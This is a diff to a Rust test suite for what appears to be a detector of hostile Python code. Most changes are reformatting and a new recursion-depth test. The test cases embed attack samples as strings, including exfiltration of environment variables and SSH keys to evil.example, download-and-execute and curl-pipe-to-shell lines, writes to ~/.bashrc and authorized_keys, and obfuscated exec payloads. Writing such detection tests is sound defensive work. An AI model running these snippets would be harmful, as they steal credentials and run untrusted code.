@@ -55,11 +55,17 @@ fn payloads_at_import_are_critical() {
         ("S116", "exec(bytes.fromhex('696d706f7274206f73'))"),
         ("S116", "import zlib, sys\nexec(zlib.decompress(sys.stdin.buffer.read()))"),
         ("S116", "exec(''.join(chr(c ^ 1) for c in [104, 108, 113, 110, 115, 117, 33, 110, 114]))"),
-        ("S116", "def d(s):\n    o = ''\n    for c in s:\n        o += chr(ord(c) ^ 1)\n    return o\nexec(d('hlqnsu!nr'))"),
+        (
+            "S116",
+            "def d(s):\n    o = ''\n    for c in s:\n        o += chr(ord(c) ^ 1)\n    return o\nexec(d('hlqnsu!nr'))",
+        ),
         ("S116", "import pickle, base64\npickle.loads(base64.b64decode('gASVBQAAAAAAAACMAWGULg=='))"),
         ("S116", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))"),
         ("S117", "import requests\nexec(requests.get('https://evil.example/x.py').text)"),
-        ("S117", "from urllib.request import urlopen\nwith urlopen('https://evil.example/x') as r:\n    exec(r.read())"),
+        (
+            "S117",
+            "from urllib.request import urlopen\nwith urlopen('https://evil.example/x') as r:\n    exec(r.read())",
+        ),
         (
             "S117",
             "import urllib.request, os\nurllib.request.urlretrieve('http://evil.example/x', '/tmp/x')\nos.system('chmod +x /tmp/x; /tmp/x')",
@@ -77,7 +83,10 @@ fn payloads_at_import_are_critical() {
         ("S118", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"),
         ("S118", "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')"),
         ("S310", "import os, requests\nrequests.post('https://evil.example', json=dict(os.environ))"),
-        ("S310", "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example', data={'k': k})"),
+        (
+            "S310",
+            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example', data={'k': k})",
+        ),
         ("S115", "().__class__.__base__.__subclasses__()"),
         (
             "S110",
@@ -92,8 +101,11 @@ fn payloads_at_import_are_critical() {
 
 #[test]
 fn what_only_stands_in_a_function_is_less() {
-    let deferred = |body: &str| judge(&format!("import os, subprocess, requests, base64\ndef run(x):\n    {body}\n"), Role::Plain);
-    for body in ["os.system('curl http://evil.example/x | sh')", "exec(base64.b64decode(x))", "exec(requests.get(x).text)"] {
+    let deferred =
+        |body: &str| judge(&format!("import os, subprocess, requests, base64\ndef run(x):\n    {body}\n"), Role::Plain);
+    for body in
+        ["os.system('curl http://evil.example/x | sh')", "exec(base64.b64decode(x))", "exec(requests.get(x).text)"]
+    {
         assert_eq!(deferred(body).first().map(|f| f.1), Some(Severity::Warning), "{body}");
     }
     for body in [
@@ -187,14 +199,32 @@ fn hostile_sources_end() {
         "x = [c for c in range(8000)]\n".repeat(500),
         (0..200).map(|n| format!("def f{n}():\n    f{}()\n    f{}()\n", n + 1, n + 2)).collect::<String>() + "f0()\n",
         "x = {}\n".to_owned() + &"x = x[x]\n".repeat(5000),
-        "x = " .to_owned() + &"'a' + ".repeat(2900) + "'b'\n",
+        "x = ".to_owned() + &"'a' + ".repeat(2900) + "'b'\n",
     ];
     for bomb in &bombs {
         let report = analyse_source(bomb, Role::Model, Mode::Module).unwrap();
         assert!(report.evidence.iter().all(|e| e.weight < Weight::Attack && e.reach >= Reach::Later));
     }
     assert!(analyse_source(&"(".repeat(100_000), Role::Plain, Mode::Module).is_err());
-    for broken in ["def f(:\n", "x = (\n", "\u{feff}\u{feff}", "f'{f'{f'{", "\\", "'''", "if x:\nimport os\n", "\t\n  \n x"] {
+    for broken in
+        ["def f(:\n", "x = (\n", "\u{feff}\u{feff}", "f'{f'{f'{", "\\", "'''", "if x:\nimport os\n", "\t\n  \n x"]
+    {
         let _ = analyse_source(broken, Role::Plain, Mode::Module);
     }
+}
+
+#[test]
+fn towers_of_calls_are_not_followed_for_ever() {
+    let (open, close) = ("[".repeat(190), "]".repeat(190));
+    let functions: String =
+        (0..6).map(|n| format!("def f{n}():\n    x = {open}f{}(){close}\n", n + 1)).collect::<String>() + "f0()\n";
+    // Frames of a debug build are several times those of the sandbox.
+    let walk = std::thread::Builder::new().stack_size(64 << 20);
+    let report = walk.spawn(move || analyse_source(&functions, Role::Plain, Mode::Module).unwrap()).unwrap();
+    assert!(report.join().unwrap().too_deep);
+    assert!(
+        !analyse_source("def f():\n    return g()\ndef g():\n    return [[1]]\nf()\n", Role::Plain, Mode::Module)
+            .unwrap()
+            .too_deep
+    );
 }
